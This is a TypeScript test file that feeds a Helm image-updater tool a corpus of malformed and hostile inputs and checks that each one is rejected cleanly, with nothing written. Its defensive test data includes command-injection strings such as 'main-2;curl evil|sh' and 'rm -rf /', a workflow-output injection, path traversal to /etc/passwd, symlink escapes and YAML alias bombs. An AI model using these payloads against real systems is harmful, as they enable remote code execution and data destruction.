/**
 * A corpus of bad input, each case run through the command-line entry against a real registry:
 * every case must end with a message that names the problem, leave the checkout byte-identical
 * (no file rewritten, created or removed), and — for configuration errors — happen before the
 * first registry request.
 */
import { mkdir, mkdtemp, readFile, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';

import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';

import {
  startRegistry,
  type PushedImage,
  type RunningRegistry,
} from '../harness/registry/index.js';
import {
  describeRun,
  errorLines,
  startActionFixture,
  type ActionFixture,
} from './action-fixture.js';
import { makeCheckout, removeCheckout, runCli, snapshot } from './checkout.js';

const CONFIG = '.github/helm-image-updater.yml';
const PASSWORD = 'pw-Zq8xT3-never-print-me';

let registry: RunningRegistry;
let host: string;
let pushed: Record<string, PushedImage>;
let scratch: string;

beforeAll(async () => {
  registry = await startRegistry();
  host = registry.host;
  pushed = {};
  for (const [tag, created] of [
    ['main-1', '2024-01-01T00:00:00Z'],
    ['main-2', '2024-02-01T00:00:00Z'],
    ['release-3', '2024-03-01T00:00:00Z'],
  ] as const) {
    pushed[tag] = await registry.push('team/app', tag, { created });
  }
  scratch = await mkdtemp(path.join(os.tmpdir(), 'bad-input-'));
  // No Docker config of the machine running the tests may leak in.
  vi.stubEnv('DOCKER_CONFIG', scratch);
  vi.stubEnv('GITHUB_TOKEN', '');
}, 120_000);

afterAll(async () => {
  vi.unstubAllEnvs();
  await registry?.close();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

beforeEach(async () => {
  await registry.resetRequestCounts();
});

const image = (): string => `${host}/team/app`;

/** The chart every case starts from: an override file and a values file for `frontend`. */
function chart(): Record<string, string> {
  return {
    'helm/values.yaml': `# chart defaults\nfrontend:\n  image: ${image()}\n  tag: main-1\n`,
    'helm/.argocd-source-example.yaml': `helm:\n  parameters:\n  - name: frontend.image\n    value: ${image()}\n    forcestring: true\n  - name: frontend.tag\n    value: main-1\n    forcestring: true\n`,
    'env/dev/values.yaml': `frontend:\n  image: ${image()}\n  tag: main-1\n`,
  };
}

/** Inputs for the override target; a case's `args` come after and win. */
function overrideArgs(): string[] {
  return [
    '--images',
    `frontend=${image()}`,
    '--insecure-registries',
    host,
    '--chart-path',
    'helm',
    '--app-name',
    'example',
  ];
}

function valuesArgs(): string[] {
  return [
    '--images',
    `frontend=${image()}`,
    '--insecure-registries',
    host,
    '--write-back-target',
    'values',
    '--values-files',
    'env/*/values.yaml',
  ];
}

/** For config-file cases: no `images` input, so the file alone configures the run. */
function configArgs(): string[] {
  return ['--insecure-registries', host];
}

function configFile(body: string): Record<string, string> {
  return { [CONFIG]: body };
}

/** A valid config file with one part replaced, so each case breaks exactly one thing. */
function validConfig(parts: { images?: string; targets?: string; top?: string } = {}): string {
  return [
    parts.top ?? '',
    'images:',
    parts.images ?? `  frontend: { repository: ${image()} }`,
    'targets:',
    parts.targets ??
      '  - name: example\n    type: argocd-override\n    path: helm\n    app: example\n    images: [frontend]',
    '',
  ].join('\n');
}

interface BadInput {
  readonly name: string;
  /** Files added to (or replacing files of) the base chart. */
  readonly files?: Record<string, string>;
  /** Extra setup inside the checkout (symlinks). */
  readonly prepare?: (dir: string) => Promise<void>;
  readonly args: () => string[];
  /** A repository_dispatch payload (`client_payload`), given as the event. */
  readonly dispatch?: () => unknown;
  /** Every one of these must appear in the error output (a function when it needs the registry). */
  readonly message: readonly (string | RegExp)[] | (() => readonly (string | RegExp)[]);
  /** Configuration errors: no registry request at all. */
  readonly beforeRegistry: boolean;
  /** Text that must not appear anywhere in the output. */
  readonly secret?: string;
}

const bigText = (bytes: number): string =>
  `frontend:\n  image: x\n  tag: main-1\n# ${'x'.repeat(bytes)}\n`;

const aliasBomb = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
  'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
  'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
  'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
  'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
  'frontend:',
  '  tag: main-1',
  '',
].join('\n');

const cases: BadInput[] = [
  // ---- config file: syntax and keys
  {
    name: 'a config file that is not YAML',
    files: configFile('images:\n  frontend: { repository: [unclosed\n'),
    args: configArgs,
    message: [`${CONFIG}:`, 'not valid YAML'],
    beforeRegistry: true,
  },
  {
    name: 'a config file that is empty',
    files: configFile('\n'),
    args: configArgs,
    message: [CONFIG, 'the config file is empty'],
    beforeRegistry: true,
  },
  {
    name: 'an unknown top-level key, with a suggestion',
    files: configFile(validConfig({ top: 'targetz: []' })),
    args: configArgs,
    message: [`${CONFIG}:1`, 'unknown key `targetz`', /did you mean `targets`/i],
    beforeRegistry: true,
  },
  {
    name: 'an unknown image key, with a suggestion',
    files: configFile(
      validConfig({ images: `  frontend: { repository: ${image()}, stratgy: semver }` }),
    ),
    args: configArgs,
    message: [`${CONFIG}:3`, 'unknown key `stratgy`', /did you mean `strategy`/i],
    beforeRegistry: true,
  },
  {
    name: 'an unknown target key, with a suggestion',
    files: configFile(
      validConfig({
        targets:
          '  - name: example\n    type: argocd-override\n    path: helm\n    ap: example\n    images: [frontend]',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:8`, 'unknown key `ap`', /did you mean `app`/i],
    beforeRegistry: true,
  },
  {
    name: 'duplicate keys in a YAML map',
    files: configFile(
      `images:\n  frontend: { repository: ${image()} }\n  frontend: { repository: ${image()} }\ntargets: []\n`,
    ),
    args: configArgs,
    message: [`${CONFIG}:`, /unique|duplicate/i],
    beforeRegistry: true,
  },
  {
    name: 'a config file alias bomb',
    files: configFile(
      validConfig({
        images: [
          '  frontend:',
          `    repository: ${image()}`,
          '    ignore-tags:',
          '      - &a [l, l, l, l, l, l, l, l, l]',
          '      - &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]',
          '      - &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]',
          '      - &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]',
          '      - &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]',
          '      - [*e, *e, *e, *e, *e, *e, *e, *e, *e]',
        ].join('\n'),
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:6`, 'ignore-tags', 'must be a list of strings'],
    beforeRegistry: true,
  },
  {
    name: 'a config file above the size limit',
    files: configFile(`# ${'x'.repeat(1024 * 1024 + 10)}\n${validConfig()}`),
    args: configArgs,
    message: [CONFIG, /bytes/, /limit/],
    beforeRegistry: true,
  },
  // ---- values inside the config
  {
    name: 'an invalid regular expression in allow-tags',
    files: configFile(
      validConfig({
        images: `  frontend: { repository: ${image()}, allow-tags: "regexp:^main-(" }`,
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:3`, 'allow-tags regular expression "^main-(" is invalid'],
    beforeRegistry: true,
  },
  {
    name: 'an invalid regular expression in the allow-tags input',
    args: () => [...overrideArgs(), '--allow-tags', 'regexp:[a-'],
    message: ['input allow-tags', /regular expression/i],
    beforeRegistry: true,
  },
  {
    name: 'an invalid semver constraint',
    files: configFile(
      validConfig({
        images: `  frontend: { repository: ${image()}, strategy: semver, constraint: "^1.x.y.z" }`,
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:3`, '^1.x.y.z', /semver|range/i],
    beforeRegistry: true,
  },
  {
    name: 'an invalid semver constraint in the images input',
    args: () => [
      ...overrideArgs(),
      '--images',
      `frontend=${image()}:>>1`,
      '--update-strategy',
      'semver',
    ],
    message: ['input images', '>>1'],
    beforeRegistry: true,
  },
  {
    name: 'duplicate aliases in the images input',
    args: () => [...overrideArgs(), '--images', `frontend=${image()}, frontend=${host}/team/other`],
    message: ['input images', 'frontend', /twice|duplicate|more than once/i],
    beforeRegistry: true,
  },
  {
    name: 'an image listed twice in a target',
    files: configFile(
      validConfig({
        targets:
          '  - name: example\n    type: argocd-override\n    path: helm\n    app: example\n    images: [frontend, frontend]',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:9`, 'image `frontend` is listed twice'],
    beforeRegistry: true,
  },
  {
    name: 'a target naming an unknown image, with a suggestion',
    files: configFile(
      validConfig({
        targets:
          '  - name: example\n    type: argocd-override\n    path: helm\n    app: example\n    images: [frontent]',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:9`, 'unknown image `frontent`', /did you mean `frontend`/i],
    beforeRegistry: true,
  },
  {
    name: 'an unknown target type, with a suggestion',
    files: configFile(
      validConfig({
        targets: '  - name: example\n    type: value\n    files: env/*/values.yaml',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:6`, 'type `value`', /did you mean `values`/i],
    beforeRegistry: true,
  },
  {
    name: 'a target name that cannot be part of a branch name',
    files: configFile(
      validConfig({
        targets:
          '  - name: "ex ample;rm"\n    type: argocd-override\n    path: helm\n    app: example',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:5`, 'target name', 'not valid'],
    beforeRegistry: true,
  },
  // ---- paths
  {
    name: '`..` in chart-path',
    args: () => [...overrideArgs(), '--chart-path', '../outside'],
    message: ['input chart-path', '`../outside` contains `..`'],
    beforeRegistry: true,
  },
  {
    name: 'an absolute chart-path',
    args: () => [...overrideArgs(), '--chart-path', '/etc'],
    message: ['input chart-path', '`/etc` is absolute'],
    beforeRegistry: true,
  },
  {
    name: '`..` in values-files',
    args: () => [...valuesArgs(), '--values-files', 'env/../../values.yaml'],
    message: ['input values-files', 'contains `..`'],
    beforeRegistry: true,
  },
  {
    name: 'an absolute values-files glob',
    args: () => [...valuesArgs(), '--values-files', '/etc/*.yaml'],
    message: ['input values-files', 'is absolute'],
    beforeRegistry: true,
  },
  {
    name: '`..` in config-file',
    args: () => [...overrideArgs(), '--config-file', '../../etc/passwd'],
    message: ['input config-file', 'contains `..`'],
    beforeRegistry: true,
  },
  {
    name: '`..` in a config file target path',
    files: configFile(
      validConfig({
        targets:
          '  - name: example\n    type: argocd-override\n    path: ../../tmp\n    app: example',
      }),
    ),
    args: configArgs,
    message: [`${CONFIG}:7`, 'contains `..`'],
    beforeRegistry: true,
  },
  {
    name: 'an absolute config file values glob',
    files: configFile(
      validConfig({ targets: '  - name: env\n    type: values\n    files: /etc/*/values.yaml' }),
    ),
    args: configArgs,
    message: [`${CONFIG}:7`, 'is absolute'],
    beforeRegistry: true,
  },
  {
    name: 'an app-name that would leave the chart directory',
    args: () => [...overrideArgs(), '--app-name', '../../evil'],
    message: ['input app-name', '../../evil'],
    beforeRegistry: true,
  },
  {
    name: 'a symlinked values file',
    prepare: async (dir) => {
      await rm(path.join(dir, 'env/dev/values.yaml'));
      await writeFile(path.join(scratch, 'outside.yaml'), 'frontend:\n  tag: main-1\n');
      await symlink(path.join(scratch, 'outside.yaml'), path.join(dir, 'env/dev/values.yaml'));
    },
    args: () => [...valuesArgs(), '--values-files', 'env/dev/values.yaml'],
    message: ['env/dev/values.yaml', 'symbolic link'],
    beforeRegistry: true,
  },
  {
    name: 'a symlinked environment directory',
    prepare: async (dir) => {
      await mkdir(path.join(scratch, 'linked-env'), { recursive: true });
      await writeFile(path.join(scratch, 'linked-env/values.yaml'), 'frontend:\n  tag: main-1\n');
      await symlink(path.join(scratch, 'linked-env'), path.join(dir, 'env/prod'));
    },
    args: () => [...valuesArgs(), '--values-files', 'env/prod/values.yaml'],
    message: ['env/prod', 'symbolic link'],
    beforeRegistry: true,
  },
  {
    name: 'a symlinked override file',
    prepare: async (dir) => {
      await rm(path.join(dir, 'helm/.argocd-source-example.yaml'));
      await symlink('/etc/passwd', path.join(dir, 'helm/.argocd-source-example.yaml'));
    },
    args: overrideArgs,
    message: ['helm/.argocd-source-example.yaml', 'symbolic link'],
    beforeRegistry: true,
  },
  {
    name: 'a symlinked config file',
    prepare: async (dir) => {
      await writeFile(path.join(scratch, 'config.yml'), validConfig());
      await mkdir(path.join(dir, '.github'), { recursive: true });
      await symlink(path.join(scratch, 'config.yml'), path.join(dir, CONFIG));
    },
    args: overrideArgs,
    message: [CONFIG, 'symbolic link'],
    beforeRegistry: true,
  },
  // ---- chart files
  {
    name: 'a values file that is not YAML',
    files: { 'env/dev/values.yaml': 'frontend:\n  tag: [main-1\n  image: x\n' },
    args: valuesArgs,
    message: ['env/dev/values.yaml', /YAML/],
    beforeRegistry: false,
  },
  {
    name: 'an override file that is not YAML',
    files: { 'helm/.argocd-source-example.yaml': 'helm:\n  parameters: [\n' },
    args: overrideArgs,
    message: ['helm/.argocd-source-example.yaml', /YAML/],
    beforeRegistry: false,
  },
  {
    name: 'an override file whose parameters are not a list',
    files: { 'helm/.argocd-source-example.yaml': 'helm:\n  parameters:\n    frontend.tag: x\n' },
    args: overrideArgs,
    message: ['helm/.argocd-source-example.yaml', 'parameters'],
    beforeRegistry: false,
  },
  {
    name: 'a key path through a list',
    files: { 'env/dev/values.yaml': 'frontend:\n  - image: x\n    tag: main-1\n' },
    args: valuesArgs,
    message: ['env/dev/values.yaml', 'frontend', /list|sequence/],
    beforeRegistry: false,
  },
  {
    name: 'a key path through a scalar',
    files: { 'env/dev/values.yaml': 'frontend: nginx:main-1\n' },
    args: valuesArgs,
    message: ['env/dev/values.yaml', 'frontend', /scalar|not a map|string/],
    beforeRegistry: false,
  },
  {
    name: 'a values file alias bomb',
    files: { 'env/dev/values.yaml': aliasBomb },
    args: valuesArgs,
    message: ['env/dev/values.yaml', /alias bomb/],
    beforeRegistry: false,
  },
  {
    name: 'a values file above the size limit',
    files: { 'env/dev/values.yaml': bigText(1024 * 1024) },
    args: valuesArgs,
    message: ['env/dev/values.yaml', /above the limit|above the .*limit/],
    beforeRegistry: true,
  },
  // ---- inputs with a fixed vocabulary
  {
    name: 'an unknown mode',
    args: () => [...overrideArgs(), '--mode', 'yolo'],
    message: ['input mode', '`yolo`', 'pull-request'],
    beforeRegistry: true,
  },
  {
    name: 'an unknown update-strategy, with a suggestion',
    args: () => [...overrideArgs(), '--update-strategy', 'semverr'],
    message: ['input update-strategy', 'update strategy "semverr" is unknown', 'newest-build'],
    beforeRegistry: true,
  },
  {
    name: 'an unknown strategy in the config file',
    files: configFile(
      validConfig({ images: `  frontend: { repository: ${image()}, strategy: newest }` }),
    ),
    args: configArgs,
    message: [`${CONFIG}:3`, 'update strategy "newest" is unknown'],
    beforeRegistry: true,
  },
  {
    name: 'a platform without an architecture',
    args: () => [...overrideArgs(), '--platforms', 'linux'],
    message: ['input platforms', '`linux`', 'os/arch'],
    beforeRegistry: true,
  },
  {
    name: 'an unknown merge-method',
    args: () => [...overrideArgs(), '--merge-method', 'fast-forward'],
    message: ['input merge-method', '`fast-forward`'],
    beforeRegistry: true,
  },
  {
    name: 'an unknown write-back-target',
    args: () => [...overrideArgs(), '--write-back-target', 'kustomize'],
    message: ['input write-back-target', '`kustomize`'],
    beforeRegistry: true,
  },
  {
    name: 'allow-downgrade that is not a boolean',
    args: () => [...overrideArgs(), '--allow-downgrade', 'maybe'],
    message: ['input allow-downgrade', '`maybe`'],
    beforeRegistry: true,
  },
  {
    name: 'a min-age that is not a duration',
    args: () => [...overrideArgs(), '--min-age', 'soon'],
    message: ['input min-age', 'min-age "soon" is not a duration'],
    beforeRegistry: true,
  },
  {
    name: 'config-source that is not known',
    args: () => [...overrideArgs(), '--config-source', 'yaml'],
    message: ['input config-source', '`yaml`'],
    beforeRegistry: true,
  },
  {
    name: 'a request-budget of 0',
    args: () => [...overrideArgs(), '--request-budget', '0'],
    message: ['input request-budget', '`0`', 'whole number'],
    beforeRegistry: true,
  },
  {
    name: 'an insecure registry given as a URL',
    args: () => [...overrideArgs(), '--insecure-registries', `http://${host}`],
    message: () => ['input insecure-registries', `\`http://${host}\` is not a host`],
    beforeRegistry: true,
  },
  {
    name: 'a branch name git would refuse',
    args: () => [...overrideArgs(), '--branch', 'updates..x'],
    message: ['input branch', '`updates..x` is not a valid Git branch name'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch type with spaces',
    args: () => [...overrideArgs(), '--dispatch-types', 'image pushed;rm'],
    message: ['input dispatch-types', 'is not valid'],
    beforeRegistry: true,
  },
  {
    name: 'a registry-concurrency that is not a number',
    args: () => [...overrideArgs(), '--registry-concurrency', 'many'],
    message: ['input registry-concurrency', '`many`', 'whole number'],
    beforeRegistry: true,
  },
  {
    name: 'a Helm key that is not a dotted path',
    args: () => [...overrideArgs(), '--helm-image-tag', '{alias}..tag'],
    message: ['input helm-image-tag', 'helm key "frontend..tag" is not a dotted key path'],
    beforeRegistry: true,
  },
  // ---- registry access
  {
    name: 'a credentials line without `=`, password not echoed',
    args: () => [...overrideArgs(), '--registry-credentials', `${host} admin:${PASSWORD}`],
    message: ['input registry-credentials:1', 'host=user:password'],
    beforeRegistry: true,
    secret: PASSWORD,
  },
  {
    name: 'a credentials line without a user, password not echoed',
    args: () => [...overrideArgs(), '--registry-credentials', `# comment\n${host}=:${PASSWORD}`],
    message: ['input registry-credentials:2', 'user:password'],
    beforeRegistry: true,
    secret: PASSWORD,
  },
  {
    name: 'a credentials line with a bad host, password not echoed',
    args: () => [...overrideArgs(), '--registry-credentials', `my registry=admin:${PASSWORD}`],
    message: ['input registry-credentials:1', 'is not a registry host'],
    beforeRegistry: true,
    secret: PASSWORD,
  },
  {
    name: 'a credentials line naming an unset variable',
    args: () => [
      ...overrideArgs(),
      '--registry-credentials',
      `${host}=env:HELM_IMAGE_UPDATER_UNSET_VARIABLE`,
    ],
    message: ['input registry-credentials:1', 'HELM_IMAGE_UPDATER_UNSET_VARIABLE', 'is not set'],
    beforeRegistry: true,
  },
  {
    name: 'a ca-file that does not exist',
    args: () => [...overrideArgs(), '--ca-file', '/nonexistent/ca.pem'],
    message: ['input ca-file', '/nonexistent/ca.pem', 'does not exist'],
    beforeRegistry: true,
  },
  {
    name: 'a ca-file that is not PEM',
    prepare: async () => {
      await writeFile(path.join(scratch, 'not-a-ca.txt'), 'hello\n');
    },
    args: () => [...overrideArgs(), '--ca-file', path.join(scratch, 'not-a-ca.txt')],
    message: ['input ca-file', 'no PEM certificate'],
    beforeRegistry: true,
  },
  // ---- repository_dispatch payloads
  {
    name: 'a dispatch for an image that is not configured',
    args: overrideArgs,
    dispatch: () => ({ image: `${host}/team/other`, tag: 'main-2' }),
    message: () => [`image "${host}/team/other" is not configured`, 'nothing was written'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch tag with shell characters',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'main-2;curl evil|sh' }),
    message: ['client_payload.tag must be an OCI tag', '"main-2;curl evil|sh"'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch tag with a newline',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'main-2\n::set-output name=changed::true' }),
    message: ['client_payload.tag must be an OCI tag', '\\n::set-output'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch tag that fails the tag filter',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'release-3' }),
    message: [
      'tag "release-3" does not pass the allow-tags/ignore-tags filters',
      'nothing was written',
    ],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch tag that is not in the registry',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'main-404' }),
    message: ['tag "main-404" does not exist', 'nothing was written'],
    beforeRegistry: false,
  },
  {
    name: 'a dispatch digest that is not the registry’s',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'main-2', digest: pushed['main-1']?.digest }),
    message: () => [
      'digest mismatch',
      `"${pushed['main-2']?.digest ?? 'unknown'}"`,
      'nothing was written',
    ],
    beforeRegistry: false,
  },
  {
    name: 'a dispatch digest that is not a digest',
    args: overrideArgs,
    dispatch: () => ({ image: image(), tag: 'main-2', digest: 'sha256:xyz' }),
    message: ['client_payload.digest must be a digest, "sha256:" and 64 hex digits'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch with more than 10 payload keys',
    args: overrideArgs,
    dispatch: () => ({
      image: image(),
      tag: 'main-2',
      ...Object.fromEntries(Array.from({ length: 9 }, (_, index) => [`extra${index}`, 'x'])),
    }),
    message: ['client_payload has 11 keys', 'at most 10'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch whose client_payload is not an object',
    args: overrideArgs,
    dispatch: () => ['image', 'tag'],
    message: ['client_payload must be an object'],
    beforeRegistry: true,
  },
  {
    name: 'a dispatch image with spaces and capitals',
    args: overrideArgs,
    dispatch: () => ({ image: 'Team/App; rm -rf /', tag: 'main-2' }),
    message: ['client_payload.image must be an image repository', '"Team/App; rm -rf /"'],
    beforeRegistry: true,
  },
];

describe('bad input through the command line', () => {
  it('a values glob does not follow a symlink: the linked file outside the checkout is never written', async () => {
    const outside = path.join(scratch, 'linked-values.yaml');
    const outsideText = `frontend:\n  image: ${image()}\n  tag: main-1\n`;
    await writeFile(outside, outsideText);
    const dir = await makeCheckout({ ...chart(), 'env/qa/values.yaml': outsideText });
    try {
      await mkdir(path.join(dir, 'env/prod'));
      await symlink(outside, path.join(dir, 'env/prod/values.yaml'));
      const run = await runCli(['--dir', dir, ...valuesArgs()]);
      expect(run.exitCode, run.stderr).toBe(0);
      expect(await readFile(path.join(dir, 'env/qa/values.yaml'), 'utf8')).toContain('tag: main-2');
      expect(await readFile(path.join(dir, 'env/dev/values.yaml'), 'utf8')).toContain(
        'tag: main-2',
      );
      expect(await readFile(outside, 'utf8')).toBe(outsideText);
      expect(await readlink(path.join(dir, 'env/prod/values.yaml'))).toBe(outside);
    } finally {
      await removeCheckout(dir);
    }
  });

  it('has a corpus of at least 40 cases', () => {
    expect(cases.length).toBeGreaterThanOrEqual(40);
    expect(new Set(cases.map((entry) => entry.name)).size).toBe(cases.length);
  });

  it.each(cases)('$name: a clear message, nothing written', async (entry) => {
    const dir = await makeCheckout({ ...chart(), ...entry.files });
    try {
      await entry.prepare?.(dir);
      const before = await snapshot(dir);
      const args = ['--dir', dir, ...entry.args()];
      if (entry.dispatch) {
        const eventPath = path.join(scratch, 'event.json');
        await writeFile(
          eventPath,
          JSON.stringify({ action: 'image-pushed', client_payload: entry.dispatch() }),
        );
        args.push('--event-name', 'repository_dispatch', '--event-path', eventPath);
      }
      const run = await runCli(args);
      const output = `${run.stderr}\n${run.stdout}`;
      expect(run.exitCode, output).toBe(1);
      const expected = typeof entry.message === 'function' ? entry.message() : entry.message;
      for (const part of expected) {
        if (typeof part === 'string') expect(output).toContain(part);
        else expect(output).toMatch(part);
      }
      expect(await snapshot(dir)).toEqual(before);
      const counts = await registry.requestCounts();
      if (entry.beforeRegistry) expect(counts.total, JSON.stringify(counts.byKind)).toBe(0);
      if (entry.secret) expect(output).not.toContain(entry.secret);
    } finally {
      await removeCheckout(dir);
    }
  });
});

/** The same promise through the bundled action: no commit, no branch, no pull request. */
describe('bad input through the action', () => {
  let fixture: ActionFixture;

  beforeAll(async () => {
    fixture = await startActionFixture();
    await fixture.push('main-8', 'main-9');
  }, 120_000);

  afterAll(async () => {
    await fixture?.close();
  });

  const actionCases: {
    name: string;
    files?: Record<string, string>;
    inputs?: Record<string, string>;
    message: (string | RegExp)[];
    beforeRegistry: boolean;
    secret?: string;
  }[] = [
    {
      name: 'a config file with an unknown key',
      files: {
        [CONFIG]: `images:\n  app: { repository: x/y, allow_tags: any }\ntargets: []\n`,
      },
      message: [`${CONFIG}:2`, 'unknown key `allow_tags`', /did you mean `allow-tags`/i],
      beforeRegistry: true,
    },
    {
      name: '`..` in chart-path',
      inputs: { 'chart-path': 'helm/../../other' },
      message: ['input chart-path', 'contains `..`'],
      beforeRegistry: true,
    },
    {
      name: 'an override file that is not YAML',
      files: { 'helm/.argocd-source-example.yaml': 'helm:\n  parameters: [\n' },
      message: ['helm/.argocd-source-example.yaml', /YAML/],
      beforeRegistry: false,
    },
    {
      name: 'a values file above the size limit',
      files: { 'helm/values.yaml': bigText(1024 * 1024 + 1) },
      inputs: { 'write-back-target': 'values', 'values-files': 'values.yaml' },
      message: ['helm/values.yaml', /bytes/, /limit/],
      beforeRegistry: true,
    },
    {
      name: 'a malformed registry-credentials line',
      inputs: { 'registry-credentials': `127.0.0.1 admin:${PASSWORD}` },
      message: ['input registry-credentials:1', 'host=user:password'],
      beforeRegistry: true,
      secret: PASSWORD,
    },
    {
      name: 'an invalid allow-tags expression',
      inputs: { 'allow-tags': 'regexp:(' },
      message: ['input allow-tags', /regular expression/],
      beforeRegistry: true,
    },
  ];

  it.each(actionCases)(
    '$name: a clear message, nothing written to GitHub',
    async (entry) => {
      const restore: Record<string, string | null> = {};
      if (entry.files) {
        for (const name of Object.keys(entry.files)) {
          restore[name] = (await fixture.github.readFile('main', name)) ?? null;
        }
        await fixture.github.commit('main', entry.files, 'Set up a bad input');
      }
      try {
        const mainBefore = await fixture.github.branchSha('main');
        const mark = fixture.github.requests.length;
        await fixture.registry.resetRequestCounts();
        const run = await fixture.run({ inputs: entry.inputs ?? {} });
        expect(run.exitCode, describeRun(run)).toBe(1);
        const errors = errorLines(run).join('\n');
        for (const part of entry.message) {
          if (typeof part === 'string') expect(errors).toContain(part);
          else expect(errors).toMatch(part);
        }
        expect(await fixture.github.branchSha('main')).toBe(mainBefore);
        expect(await fixture.updaterBranches()).toEqual({});
        expect(fixture.github.listPulls()).toEqual([]);
        const writes = fixture.github.requests
          .slice(mark)
          .filter((request) => request.method !== 'GET')
          .map((request) => `${request.method} ${request.path}`);
        expect(writes).toEqual([]);
        // A run stopped by its configuration sets no outputs; it never claims a change.
        expect(run.outputs.changed ?? 'false').toBe('false');
        if (entry.beforeRegistry) expect((await fixture.registry.requestCounts()).total).toBe(0);
        if (entry.secret) {
          expect(`${run.stdout}${run.stderr}${JSON.stringify(run.outputs)}`).not.toContain(
            entry.secret,
          );
        }
        expect(fixture.github.violations).toEqual([]);
      } finally {
        if (entry.files) await fixture.github.commit('main', restore, 'Undo the bad input');
      }
    },
    120_000,
  );
});
